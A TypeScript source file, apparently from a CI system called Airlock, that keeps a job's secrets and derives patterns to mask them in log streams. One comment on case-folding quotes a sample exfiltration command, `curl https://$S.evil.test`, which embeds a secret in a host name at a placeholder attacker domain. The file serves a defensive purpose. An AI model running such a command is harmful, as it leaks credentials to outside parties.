import { AirlockError } from "../../errors.js";
import { type Automaton, buildAutomaton } from "./automaton.js";
import { TRIGGERS } from "./credentials.js";
import { deriveNeedles, MAX_SECRET_LENGTH, MIN_SECRET_LENGTH, trimSeparators } from "./needles.js";

/**
 * The values one job must never show: the secrets it was given, the tokens Airlock minted for it
 * (OIDC ID tokens, the request token) and whatever the job adds with `::add-mask::`. Mutable and
 * shared by every log stream of the job; each change bumps `version`, and the automaton for a
 * version is built once, on first use, and shared too.
 */
export class SecretSet {
  private readonly values = new Map<string, string>(); // value -> first name it was added under
  private needles: string[] = [];
  private readonly known = new Map<string, string>(); // needle -> name of the first value deriving it
  private built: { version: number; automaton: Automaton } | undefined;
  private _version = 0;
  private foldedSet: { version: number; set: SecretSet } | undefined;

  constructor(entries: Iterable<readonly [name: string, value: string]> = []) {
    for (const [name, value] of entries) this.addSecret(name, value);
  }

  /**
   * Adds a value to mask from now on. Refuses values whose non-whitespace core is shorter than
   * MIN_SECRET_LENGTH: masking "abc" would shred ordinary log text and still not hide anything.
   * The error names the secret, never its value.
   */
  addSecret(name: string, value: string): void {
    const core = trimSeparators(value);
    if (core.length < MIN_SECRET_LENGTH) {
      throw new AirlockError(
        "REQUEST_INVALID",
        `secret ${JSON.stringify(name)} is too short to mask: ${core.length} characters, the minimum is ${MIN_SECRET_LENGTH}`,
        {
          hint: `use a value of at least ${MIN_SECRET_LENGTH} characters (not counting surrounding whitespace)`,
          details: { name, length: core.length, minLength: MIN_SECRET_LENGTH },
        },
      );
    }
    if (value.length > MAX_SECRET_LENGTH) {
      throw new AirlockError(
        "REQUEST_INVALID",
        `secret ${JSON.stringify(name)} is too long to mask: ${value.length} characters, the maximum is ${MAX_SECRET_LENGTH}`,
        {
          hint: "store large credentials as files and pass a short reference instead",
          details: { name, length: value.length, maxLength: MAX_SECRET_LENGTH },
        },
      );
    }
    if (this.values.has(value)) return;
    this.values.set(value, name);
    for (const n of deriveNeedles(value)) {
      if (!this.known.has(n.text)) {
        this.known.set(n.text, name);
        this.needles.push(n.text);
      }
    }
    this._version++;
  }

  /** Bumped by every value actually added; streams compare it to know when to rescan. */
  get version(): number {
    return this._version;
  }

  get size(): number {
    return this.values.size;
  }

  /** Names of the secrets held (values are never exposed). */
  names(): string[] {
    return [...new Set(this.values.values())];
  }

  /**
   * The name of the secret a needle (in normal form) was derived from, for reports that must say
   * which secret was found without ever carrying its value (the artifact scanner). A needle two
   * values share names the first.
   */
  nameOfNeedle(needle: string): string | undefined {
    return this.known.get(needle);
  }

  /** Every derived needle, in normal form (for tests and the reference implementation). */
  needleTexts(): readonly string[] {
    return this.needles;
  }

  /**
   * The same needles lower-cased, as a set of its own, for text a component has case-folded
   * before anyone sees it (host names: the proxy and the resolver lower-case them, so a secret
   * with capitals in `curl https://$S.evil.test` arrives in lower case). Rebuilt per version.
   */
  folded(): SecretSet {
    if (this.foldedSet?.version !== this._version) {
      const set = new SecretSet();
      for (const needle of this.needles) {
        const lower = needle.toLowerCase();
        if (!set.known.has(lower)) {
          set.known.set(lower, this.known.get(needle) as string);
          set.needles.push(lower);
        }
      }
      set._version = 1;
      this.foldedSet = { version: this._version, set };
    }
    return this.foldedSet.set;
  }

  /** The automaton for the current version, built on first use. */
  automaton(): Automaton {
    if (this.built?.version !== this._version) {
      this.built = { version: this._version, automaton: buildAutomaton(this.needles, TRIGGERS) };
    }
    return this.built.automaton;
  }
}
